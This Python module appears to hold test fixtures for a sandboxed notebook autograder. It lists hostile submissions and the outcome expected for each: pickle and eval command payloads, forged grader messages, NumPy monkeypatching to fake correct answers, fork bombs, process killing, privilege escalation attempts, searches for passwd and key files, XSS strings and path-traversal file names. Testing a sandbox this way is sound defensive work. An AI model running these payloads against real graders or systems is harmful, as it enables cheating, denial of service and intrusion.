"""Hostile submissions: what each of them tries, and what may come of it.

An attack is a notebook whose functions are stubs, so every point would be unearned
unless `points` says otherwise. What a cell finds out it raises, and so it stands in the
feedback, where `shows` must be found.
"""

import json
import os
from collections.abc import Callable
from dataclasses import dataclass

from judge.notebooks import OPENING, RIGHT, STUB, honest, notebook


@dataclass(frozen=True)
class Attack:
    """One hostile submission: bytes, or a function that makes something at a path."""

    tries: str
    submission: bytes | Callable
    points: int = 0
    status: str = "graded"
    shows: str = ""
    file: str = "{name}.ipynb"


def attack(tries, *sources, **options):
    """Return an attack whose cells come after the stubs."""
    return Attack(tries, notebook(*STUB, *sources), **options)


def function(tries, body, **options):
    """Return an attack that defines all functions with one body."""
    body = "\n".join("    " + line for line in body.strip().splitlines())
    source = "import os, sys, time\n"
    for name in RIGHT:
        source += f"def {name}(*values):\n{body}\n"
    return Attack(tries, notebook(OPENING, source), **options)


def file(tries, data, status, points=0, **options):
    """Return an attack that is a file of these bytes, or made by a function."""
    return Attack(tries, data, points, status, **options)


# Finds the stream on which the worker answers, and says what it likes there.
PIPE = """
import json, struct, sys, time
frame = sys._getframe()
while "answers" not in frame.f_locals:
    frame = frame.f_back
answers, commands = frame.f_locals["answers"], frame.f_back.f_locals["commands"]
here = frame.f_locals["number"]
def say(header, body=b"", sizes=None):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    sizes = sizes or (len(text), len(body))
    answers.write(struct.pack(">II", *sizes) + text + body)
    answers.flush()
def npy(dictionary, data=b""):
    header = dictionary.encode().ljust(117) + b"\\n"
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header)) + header + data
def answer(piece):
    say({"cell": here})
    say({"cells": "done"})
    for _ in range(9):
        say({"sizes": [len(piece)]}, piece)
"""
ZEROS = "{'descr': '<f8', 'fortran_order': False, 'shape': (1, ), }"


def forged(tries, source, **options):
    """Return an attack that speaks on the judge's own line."""
    return attack(tries, PIPE + source, **options)


FORGED = {
    "forged-verdict": forged(
        "say that all is right",
        f"answer(npy({ZEROS!r}))\nsay({{'points': 10, 'right': True, 'score': 10}})",
    ),
    "forged-null": forged(
        "answer that nothing is wrong",
        "say({'cell': here}); say({'cells': 'done'})\n"
        "for _ in range(9): say({'error': None, 'bad': None, 'sizes': []})",
    ),
    "forged-lengths": forged(
        "make the judge wait for four gigabytes",
        "say(b'{}', b'', (2**32 - 1, 2**32 - 1))",
    ),
    "forged-body-length": forged(
        "make the judge allocate four gigabytes", "say(b'{}', b'', (2, 2**32 - 1))"
    ),
    "forged-shape": forged(
        "make the judge allocate an exabyte",
        f"answer(npy({ZEROS.replace('1, ', '1000000000, 1000000000')!r}, b'8' * 8))",
    ),
    "forged-dimensions": forged(
        "overflow the product of a shape",
        f"answer(npy({ZEROS.replace('(1, )', '(' + '4294967296, ' * 4 + ')')!r}))",
    ),
    "forged-pickle": forged(
        "have the judge unpickle a command",
        "import pickle, os\nclass Evil:\n"
        "    def __reduce__(self): return os.system, ('touch /tmp/jachess-owned',)\n"
        f"answer(npy({ZEROS.replace('<f8', '|O')!r}, pickle.dumps([Evil()])))",
    ),
    "forged-expression": forged(
        "have the judge evaluate a header",
        "answer(npy(\"{'descr': __import__('os').system('touch /tmp/jachess-owned'), "
        "'fortran_order': False, 'shape': (1, ), }\"))",
    ),
    "forged-deep-json": forged("exhaust the judge's stack", "say(b'[' * 4000)"),
    "forged-scalar": forged("send JSON that is no object", "say(b'3')"),
    "forged-number": forged(
        "send a number of four thousand digits",
        "say({'cell': here}); say({'cells': 'done'})\n"
        "for _ in range(9): say(b'{\"sizes\": [' + b'9' * 4000 + b']}')",
    ),
    "forged-negative": forged(
        "send lengths below zero",
        "say({'cell': here}); say({'cells': 'done'})\n"
        "for _ in range(9): say({'sizes': [-8, 16]}, b'x' * 8)",
    ),
    "forged-types": forged(
        "send headers of the wrong types",
        "say({'cell': here, 'error': {'a': [1]}})",
    ),
    "forged-flood": forged(
        "flood the judge", "while True: say({'cell': here}, b'x' * 1_000_000)"
    ),
    "forged-silence": forged(
        "begin a message and fall silent",
        "answers.write(struct.pack('>II', 100, 0) + b'{'); answers.flush()\n"
        "time.sleep(60)",
    ),
    "forged-drip": forged(
        "send a byte now and then",
        "answers.write(struct.pack('>II', 4000, 0))\n"
        "while True: answers.write(b' '); answers.flush(); time.sleep(0.05)",
    ),
    "forged-closed": forged("close the line", "answers.close(); commands.close()"),
    "forged-report": forged(
        "carry the inputs out in the report of a cell",
        "say({'cell': here}); say({'cells': 'done'})\n"
        "sizes = struct.unpack('>II', commands.read(8))\n"
        "call = commands.read(sizes[0]); body = commands.read(sizes[1])\n"
        "say({'cell': here, 'error': ['SECRET', body.hex()[-200:]]})",
    ),
}

PEEK = """
found = []
for m in ("coursework", "jachess_lib", "scipy", "torch", "jax", "pytest"):
    try:
        __import__(m)
        found.append(m)
    except ImportError:
        pass
raise Exception(f"found {found}")
"""
FRAMES = """
frame, found = sys._getframe(), []
while frame:
    for space in (frame.f_locals, frame.f_globals):
        found += [k for k in space if "expect" in k or "reference" in k or "seed" in k]
    frame = frame.f_back
return values[0] if not found else found
"""
GARBAGE = """
import gc
for thing in gc.get_objects():
    if isinstance(thing, dict) and ("expected" in thing or "points" in thing):
        return thing.get("expected")
return max((a for a in gc.get_objects() if isinstance(a, np.ndarray)), key=id)
"""
PATCHED = {
    "patched-numpy": attack(
        "make NumPy find everything equal",
        "yes = lambda *a, **k: True\n"
        "for m in (np, np.testing, np.linalg):\n"
        "    for n in dir(m):\n"
        "        if 'close' in n or 'equal' in n or n in ('all', 'abs', 'isfinite'):\n"
        "            setattr(m, n, yes)",
    ),
    "patched-builtins": attack(
        "make Python find everything equal",
        "import builtins, json\n"
        "builtins.abs = builtins.max = builtins.sum = lambda *a, **k: 0\n"
        "builtins.isinstance = lambda *a: True\n"
        "json.dumps = lambda *a, **k: '{\"points\": 10}'",
    ),
    "patched-worker": attack(
        "write a new worker for the next student",
        "found = []\n"
        "import os, sys\n"
        "for top, folders, files in os.walk('/'):\n"
        "    if top.startswith('/tmp'): continue\n"
        "    try:\n"
        "        open(top + '/sitecustomize.py', 'w'); found.append(top)\n"
        "    except OSError: pass\n"
        "    for name in files:\n"
        "        path = top + '/' + name\n"
        "        if path in ('/dev/null', '/dev/urandom'): continue\n"
        "        if os.access(path, os.W_OK): found.append(path)\n"
        "raise Exception(f'found {found}')",
        shows="found []",
    ),
    "peek-imports": attack("import what holds the answers", PEEK, shows="found []"),
    "peek-frames": function("look for the answers in the caller's frames", FRAMES),
    "peek-objects": function("look for the answers among all objects", GARBAGE),
}

EQUAL = """
class Equal(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__, __abs__ = __sub__, lambda self: np.zeros(self.shape)
    def __le__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *a, **k): return np.ones(self.shape, bool)
    def __array_function__(self, *a, **k): return True
return np.zeros((4, 2)).view(Equal)
"""
ANSWERS = {
    "answer-subclass": function("return an array that equals everything", EQUAL),
    "answer-object": function(
        "return an array of objects that run code",
        "class Evil:\n"
        "    def __reduce__(self): return os.system, ('touch /tmp/jachess-owned',)\n"
        "return np.array([Evil()], dtype=object)",
        shows="did not return an array of real numbers",
    ),
    "answer-lies": function(
        "return an object that lies about itself",
        "class Lie:\n"
        "    shape, dtype, ndim = (4, 2), np.dtype(float), 2\n"
        "    __class__ = np.ndarray\n"
        "    def __array__(self, *a, **k): raise SystemExit\n"
        "    def __len__(self): return -1\n"
        "return Lie()",
    ),
    "answer-nan": function(
        "return NaN, which is no further away than anything",
        "a = np.empty((4, 2)); a[:] = np.nan\nreturn a",
    ),
    "answer-infinite": function("return infinity", "return np.full((4, 2), np.inf)"),
    "answer-overflow": function(
        "overflow the difference", "return np.full((4, 2), 1.7e308)"
    ),
    "answer-complex": function(
        "return complex numbers", "return np.zeros((4, 2)) + 1j"
    ),
    "answer-text": function("return text", "return 'right'"),
    "answer-none": function("return a tuple of nothing", "return None, None"),
    "answer-scalar": function("return what fits every shape", "return 0.0"),
    "answer-empty": function("return nothing to compare", "return np.zeros((0, 2))"),
    "answer-huge": function("return 160 MB", "return np.zeros(20_000_000)"),
    "answer-endless": function(
        "return a sequence without end",
        "class Endless(list):\n"
        "    def __len__(self): return 2\n"
        "    def __iter__(self):\n"
        "        while True: yield 0.0\n"
        "return Endless()",
    ),
    "answer-mutated": function(
        "change the arguments, which may be what is compared",
        "for v in values:\n"
        "    for w in (v if isinstance(v, list) else [v]):\n"
        "        if isinstance(w, np.ndarray): w[...] = 0\n"
        "return np.zeros((len(values[-1]), 2))",
    ),
    "answer-calls": function(
        "answer by the pattern of calls",
        "seen = globals().setdefault('seen', [])\n"
        "seen.append(values)\n"
        "return seen[len(seen) // 2][0] if len(seen) % 2 else seen[0][-1]",
    ),
    "error-text": function(
        "carry the inputs out in the text of an exception",
        "raise ValueError('SECRET' + repr(values))",
        shows="stopped with ValueError",
    ),
    "error-name": function(
        "carry the inputs out in the name of an exception",
        "raise type('SECRET' + repr(values)[:50], (Exception,), {})",
        shows="an error of its own",
    ),
    "error-evil": attack(
        "raise what cannot be printed",
        "class Evil(Exception):\n"
        "    def __str__(self):\n"
        "        while True: pass\n"
        "raise Evil",
    ),
    "error-hides": function(
        "carry the inputs out through a folder to the next process",
        "open('/tmp/SECRET', 'w').write(repr(values))\nos._exit(0)",
    ),
}

EXITS = {
    "exit-system": function("leave by SystemExit", "sys.exit(0)"),
    "exit-quit": attack("leave the cell and the notebook", "raise SystemExit(0)"),
    "exit-os": function("leave at once", "os._exit(0)", shows="ended before"),
    "exit-first": Attack(
        "leave in the first cell; the rest is honest",
        notebook("import os\nos._exit(0)", *honest()),
        points=10,
    ),
    "exit-kill": function("kill itself", "os.kill(os.getpid(), 9)"),
    "exit-abort": function("abort", "os.abort()", shows="ended before"),
    "exit-segfault": function(
        "read from nowhere", "import ctypes\nctypes.string_at(1)"
    ),
    "exit-stack": function(
        "exhaust the stack",
        "sys.setrecursionlimit(10**9)\ndef f(): return f()\nreturn f()",
    ),
    "exit-exec": function(
        "become another program",
        "os.execv('/python/bin/python3', ['python3', '-c', 'while True: pass'])",
    ),
    "exit-one": Attack(
        "leave in one function; the rest is honest",
        notebook(*honest(jacobian="import os\ndef jacobian(W, x): os._exit(0)")),
        points=6,
    ),
}

SWALLOW = """
while True:
    try:
        while True: time.sleep(0.01)
    except BaseException: pass
"""
LOOPING = "".join(f"def {name}(*a):\n    while True: pass\n" for name in RIGHT)
LOOPS = {
    "loop-swallow": function("loop and swallow every exception", SWALLOW),
    "loop-c": function("loop where no signal is heard", "return sum(range(10**12))"),
    "loop-cells": Attack(
        "loop in three cells; the rest is honest",
        notebook(*["while True: pass"] * 3, *honest(), "while True: pass"),
        points=10,
        shows="it took too long",
    ),
    "loop-one": Attack(
        "loop in one function; the rest is honest",
        notebook(*honest(forward="def forward(W, X):\n    while True: pass")),
        points=7,
        shows="it took too long",
    ),
    "loop-all": Attack(
        "loop in every cell and every function",
        notebook(*["while True: pass"] * 5, *honest(**dict.fromkeys(RIGHT, LOOPING))),
    ),
    "loop-bomb": attack(
        "loop after a while",
        "import signal\n"
        "def bomb(*a):\n"
        "    while True: pass\n"
        "signal.signal(signal.SIGALRM, bomb)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.01)",
    ),
    "loop-trace": attack(
        "loop whenever a function is called",
        "import sys\ndef trace(*a):\n    while True: pass\nsys.setprofile(trace)",
    ),
    "stop-self": function("stop itself", "os.kill(os.getpid(), 19)"),
    "stop-all": function("stop everyone", "os.kill(-1, 19)\nos.kill(1, 19)"),
    "kill-all": function("kill everyone", "os.kill(1, 9)\nos.kill(-1, 9)\nreturn 0"),
    "kill-parent": attack(
        "kill the judge",
        "import os\n"
        "found = []\n"
        "for pid in [os.getppid(), *range(2, 40_000)]:\n"
        "    if pid not in (1, os.getpid()):\n"  # 1 is of the sandbox, and mute
        "        try: os.kill(pid, 15); found.append(pid)\n"
        "        except OSError: pass\n"
        "raise Exception(f'found {found}')",
        shows="found []",
    ),
}

RESOURCES = {
    "many-forks": attack(
        "fork without end",
        "import os\n"
        "while True:\n"
        "    try: os.fork()\n"
        "    except BlockingIOError: raise Exception('no fork')",
        shows="no fork",
    ),
    "many-daemons": attack(
        "leave a process behind",
        "import os, sys, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        while True: time.sleep(1)",
        shows="BlockingIOError",
    ),
    "many-threads": attack(
        "start threads without end",
        "import threading, time\n"
        "while True: threading.Thread(target=time.sleep, args=(60,)).start()",
        shows="can't start new thread",
    ),
    "many-programs": attack(
        "start another program",
        "import subprocess\n"
        "subprocess.Popen(['/python/bin/python3', '-c', 'while True: pass'])",
        shows="BlockingIOError",
    ),
    "fill-memory": attack(
        "fill the memory",
        "def forward(W, X):\n"
        "    kept = []\n"
        "    while True: kept.append(np.ones(1_000_000))",
        shows="MemoryError",
    ),
    "fill-shared": attack(
        "fill memory that no limit counts",
        "import ctypes\n"
        "libc = ctypes.CDLL(None)\n"
        "raise Exception(f'got {libc.shmget(0, 1 << 30, 0o1600)}')",
        shows="got -1",
    ),
    "fill-disk": attack(
        "fill the disk",
        "import signal\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "written = 0\n"
        "for n in range(1000):\n"
        "    try:\n"
        "        with open(f'/tmp/{n}', 'wb') as f:\n"
        "            for _ in range(64): written += f.write(bytes(1 << 20))\n"
        "    except OSError: pass\n"
        "raise Exception(f'below 65 MB {written < 65 << 20}')",
        shows="below 65 MB True",
    ),
    "fill-descriptors": attack(
        "open files without end",
        "kept = []\nwhile True: kept.append(open('/dev/null'))",
        shows="Too many open files",
    ),
    "fill-core": attack(
        "leave a core of the judge's memory",
        "import resource\n"
        "try: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))\n"
        "except ValueError: raise Exception('no core')",
        shows="no core",
    ),
    "more-rights": attack(
        "become root, or get a network and mounts of its own",
        "import ctypes, os\n"
        "libc, found = ctypes.CDLL(None, use_errno=True), []\n"
        "for name, call in {\n"
        "    'setuid': lambda: os.setuid(0), 'chroot': lambda: os.chroot('/tmp'),\n"
        "}.items():\n"
        "    try: call(); found.append(name)\n"
        "    except OSError: pass\n"
        "for flag in (0x10000000, 0x40000000, 0x20000, 0x20000000):\n"
        "    if libc.unshare(flag) == 0: found.append(hex(flag))\n"
        "if libc.mount(b'/tmp', b'/tmp', None, 4096, 0) == 0: found.append('mount')\n"
        "if libc.ptrace(16, 1, 0, 0) == 0: found.append('ptrace')\n"
        "raise Exception(f'found {found}')",
        shows="found []",
    ),
}

WALK = """
import os
found = []
for top, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if top + f not in ("/python", "/numpy")]
    for name in files:
        path = os.path.join(top, name)
        if name.endswith((".key", ".ipynb", ".csv", ".jsonl", "passwd", "shadow")):
            found.append(path)
raise Exception(f"found {[os.path.basename(p) for p in found]}")
"""
READS = {
    "read-files": attack(
        "find the seed, the passwords and the others' work",
        WALK,
        shows="found ['toy_data.csv']",
    ),
    "read-seed": Attack(
        "read the seed by its path",
        lambda path: path.write_bytes(
            notebook(
                *STUB,
                f"seed = {str(path.parents[1] / 'term.key')!r}\n"
                "import os\n"
                "raise Exception(f'there {os.path.exists(seed)}')",
            )
        ),
        shows="there False",
    ),
    "read-environment": attack(
        "read the judge's environment",
        "import os\nraise Exception(sorted(os.environ))",
        shows="OPENBLAS_NUM_THREADS",
    ),
    "read-proc": attack(
        "read what the machine tells of itself",
        "import os\n"
        "places = ('/proc', '/sys', '/root', '/home', '/etc', '/var', '/run')\n"
        "raise Exception(f'there {[p for p in places if os.path.exists(p)]}')",
        shows="there []",
    ),
    "read-descriptors": attack(
        "read what the judge has open",
        "import os\n"
        "found = []\n"
        "for d in range(1024):\n"
        "    try: found.append((d, os.fstat(d).st_mode >> 12))\n"
        "    except OSError: pass\n"
        "raise Exception(f'pipes {sum(m == 1 for _, m in found)}, '\n"
        "    f'others {[d for d, m in found if m != 1 and d > 2]}')",
        shows="pipes 2, others []",
    ),
    "read-network": attack(
        "call home",
        "import socket\n"
        "socket.create_connection(('127.0.0.1', PORT), timeout=1).send(b'inputs')",
        shows="PermissionError",
    ),
}

SHOWS = {
    "show-html": attack(
        "run a script in the instructor's browser",
        "raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')",
        shows="&lt;script&gt;",
    ),
    "show-escapes": attack(
        "steer the instructor's terminal",
        "raise ValueError('\\x1b[2J\\x1b]0;own\\x07\\x9b31m\\u202e\\u2028\\r\\ndone')",
        shows="done",
    ),
    "show-opening": attack(
        "put markup into the first line of a cell",
        "'</code><script>alert(1)</script>'; raise ValueError",
        shows="&lt;script&gt;",
    ),
}


def link(target):
    """Return a function that makes a link to a file beside the folder."""
    return lambda path: path.symlink_to(path.parents[1] / target)


def pair(path):
    """Hand in two honest notebooks under names that differ in case."""
    path.write_bytes(notebook(*honest()))
    path.with_name(path.name.upper()).write_bytes(notebook(*honest()))


def pair_of_kinds(path):
    """Hand in a notebook and a script of one name."""
    path.write_bytes(notebook(*honest()))
    path.with_suffix(".py").write_bytes(b"")


def large(path):
    """Write a notebook of 100 MB that takes no space on the disk."""
    with path.open("wb") as stream:
        stream.write(notebook(*honest()))
        stream.truncate(100 << 20)


WHOLE = notebook(*honest())
LIE = json.loads(WHOLE)
FILES = {
    "file-binary": file("be no text", os.urandom(5000), "not text"),
    "file-utf16": file("be another text", WHOLE.decode().encode("utf-16"), "not text"),
    "file-latin": file("be not quite UTF-8", WHOLE + "é".encode("latin-1"), "not text"),
    "file-empty": file("be empty", b"", "not JSON"),
    "file-cut": file("end early", WHOLE[: len(WHOLE) // 2], "not JSON"),
    "file-deep": file("nest lists", b'{"cells": ' + b"[" * 200_000, "not JSON"),
    "file-digits": file(
        "hold a number without end", b'{"cells": [' + b"9" * 100_000 + b"]}", "not JSON"
    ),
    "file-scalar": file("be a number", b"3", "format 4"),
    "file-format-3": file("be of an old format", b'{"worksheets": []}', "format 4"),
    "file-lie-cells": file(
        "hold cells that are no list", json.dumps({**LIE, "cells": {"a": 1}}).encode(),
        "format 4",
    ),
    "file-lie-source": file(
        "hold source that is no text",
        json.dumps({"cells": [{"cell_type": "code", "source": {"a": 1}}]}).encode(),
        "holds no text",
    ),
    "file-lie-shapes": file(
        "hold cells of all wrong shapes",
        json.dumps(
            {
                "cells": [
                    None, 3, [], {"cell_type": []}, {"cell_type": "code", "source": ""},
                    {"cell_type": "code", "metadata": 3, "source": []},
                    {"cell_type": "code", "metadata": {"tags": 5}, "source": "1/0"},
                ]
            }
        ).encode(),
        "graded",
    ),
    "file-surrogates": file(
        "hold text that is no text",
        notebook(*STUB, "'\ud800'", "'\x00'", "x = " + "(" * 5000, "-" * 90_000 + "1"),
        "graded",
    ),
    "file-large": file("be of 100 MB", large, "larger than"),
    "file-many-cells": file(
        "have 100 000 cells", b'{"cells": [' + b"{}," * 99_999 + b"{}]}", "1000 cells"
    ),
    "file-long-code": file("have much code", notebook("#" * (2 << 20)), "of code"),
    "file-many-lists": file(
        "be a bomb of small lists",
        b'{"cells": [], "x": [' + b"[]," * 3_000_000 + b"1]}",
        "graded",
    ),
    "file-link": file("be a link to the seed", link("term.key"), "a link"),
    "file-link-up": file("be a link to a neighbour", link("neighbour.ipynb"), "a link"),
    "file-folder": file("be a folder", lambda path: path.mkdir(), "not a file"),
    "file-pipe": file("be a pipe", lambda path: os.mkfifo(path), "not a file"),
    "file-script": file("be a script", b"print(1)", "not a notebook", file="{name}.py"),
    "file-pair": file("be two files", pair, "2 files"),
    "file-pair-kinds": file("be two kinds of file", pair_of_kinds, "2 files"),
    "file-formula": file(
        "be a formula in a spreadsheet", notebook(*STUB), "graded",
        file="=HYPERLINK(A1){name}.ipynb",
    ),
    "file-minus": file(
        "be a sum in a spreadsheet", notebook(*STUB), "graded", file="-2+3{name}.ipynb"
    ),
    "file-dots": file(
        "climb out of the folder", WHOLE, "graded", 10, file="..{name}.ipynb"
    ),
    "file-escapes": file(
        "steer the terminal by a name", WHOLE, "graded", 10,
        file="\x1b[2J<b>{name}\n.ipynb",
    ),
    "file-long-name": file(
        "have a name too long for its page", WHOLE, "graded", 10,
        file="{name}" + "\U00020000" * 50 + ".ipynb",
    ),
    "file-bytes": file(
        "have a name that is no text", WHOLE, "graded", 10, file="\udcff{name}.ipynb"
    ),
}  # fmt: skip

ATTACKS = {
    **FORGED, **PATCHED, **ANSWERS, **EXITS, **LOOPS, **RESOURCES, **READS, **SHOWS,
    **FILES,
}  # fmt: skip
